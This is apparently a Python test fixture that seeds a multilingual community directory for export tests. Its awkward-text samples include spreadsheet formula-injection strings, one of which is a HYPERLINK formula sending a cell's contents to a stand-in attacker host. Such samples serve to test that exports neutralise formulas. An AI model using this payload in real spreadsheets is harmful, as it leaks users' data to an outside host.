"""A small directory with every kind of awkward text, built through the ORM for export tests.

Names in several scripts, text that looks like spreadsheet formulas, markup characters,
multi-line notes, an archived person and organization, a past affiliation, sensitive notes.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta

from app.models import (
    Affiliation,
    ContactMethod,
    Organization,
    OrganizationKind,
    Person,
    Tag,
    utcnow,
)
from app.models.database import Database
from app.services.settings import AGENCY_NAME, set_setting
from app.services.workspace import Workspace

TODAY = date(2026, 11, 1)
FORMULA_TEXTS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555", "@SUM(A1:A9)",
                 "-2+3", "\tx", "\r=1+2")


@dataclass(frozen=True)
class Directory:
    ws: Workspace
    school: int
    harbor: int
    formula_org: int
    archived_org: int
    empty_org: int
    nunez: int
    ivanov: int
    eleni: int
    layla: int
    li: int
    formula_person: int
    archived_person: int


def build_directory(db: Database, big_org_people: int = 0) -> Directory:
    """Fill ``db``; ``big_org_people`` adds an organization with that many members."""
    with db.write() as session:
        officer, captain = Tag(name="officer"), Tag(name="Block Captain")
        school = Organization(name="Riverton High", kind=OrganizationKind.SCHOOL,
                              phone="(555) 201-7788", email="office@rhs.example.org",
                              street="1 School Rd", city="Riverton", region="OH",
                              postal_code="45100")
        harbor = Organization(name="Safe Harbor <Shelter> & Co", kind=OrganizationKind.NONPROFIT)
        formula_org = Organization(name=FORMULA_TEXTS[0], kind=OrganizationKind.BUSINESS,
                                   notes="-2+3")
        archived_org = Organization(name="Old Block Club", kind=OrganizationKind.RESIDENT_GROUP,
                                    archived_at=utcnow())
        empty_org = Organization(name="Zeta Library", kind=OrganizationKind.GOVERNMENT)
        nunez = Person(first_name="José", last_name="Núñez", title="Principal",
                       email="jose.nunez@rhs.example.org", phone="(555) 201-0001",
                       mobile="+1 555 0100", preferred_contact=ContactMethod.EMAIL,
                       notes="Line one\nLine two; with, punctuation \\ backslash",
                       sensitive_notes="Crisis plan on file", tags=[officer, captain])
        ivanov = Person(first_name="Дмитрий", last_name="Иванов", title="Owner",
                        email="dmitry@example.ru", tags=[captain])
        eleni = Person(first_name="Ελένη", last_name="Παπαδοπούλου", email="eleni@example.gr")
        layla = Person(first_name="ليلى", last_name="حداد", phone="(555) 209-4943")
        li = Person(first_name="李华", email="lihua@example.cn")
        formula_person = Person(first_name=FORMULA_TEXTS[1], last_name=FORMULA_TEXTS[2],
                                title=FORMULA_TEXTS[3], notes=FORMULA_TEXTS[4],
                                email="formula@example.org")
        archived_person = Person(first_name="Gone", last_name="Away", archived_at=utcnow())
        session.add_all([school, harbor, formula_org, archived_org, empty_org, nunez, ivanov,
                         eleni, layla, li, formula_person, archived_person])
        session.add_all([
            Affiliation(person=nunez, organization=school, role="Principal", is_primary=True),
            Affiliation(person=nunez, organization=harbor, role="Board member"),
            Affiliation(person=ivanov, organization=harbor, role="Donor", is_primary=True),
            Affiliation(person=ivanov, organization=school, role="Former coach",
                        since=TODAY - timedelta(days=900), until=TODAY - timedelta(days=30)),
            Affiliation(person=eleni, organization=archived_org, role="Chair"),
            Affiliation(person=formula_person, organization=formula_org, role=FORMULA_TEXTS[5]),
            Affiliation(person=archived_person, organization=school, role="Teacher"),
        ])
        if big_org_people:
            big = Organization(name="Big Volunteer Corps", kind=OrganizationKind.NONPROFIT)
            session.add(big)
            for number in range(big_org_people):
                member = Person(first_name=f"Member{number:03d}", last_name="Volunteer",
                                email=f"member{number}@corps.example.org")
                session.add_all([member, Affiliation(person=member, organization=big,
                                                     role="Volunteer")])
        session.flush()
        ids = Directory(
            ws=Workspace(db, user_name="tester"), school=school.id, harbor=harbor.id,
            formula_org=formula_org.id, archived_org=archived_org.id, empty_org=empty_org.id,
            nunez=nunez.id, ivanov=ivanov.id, eleni=eleni.id, layla=layla.id, li=li.id,
            formula_person=formula_person.id, archived_person=archived_person.id,
        )
    set_setting(ids.ws, AGENCY_NAME, "Riverton Police Department")
    return ids
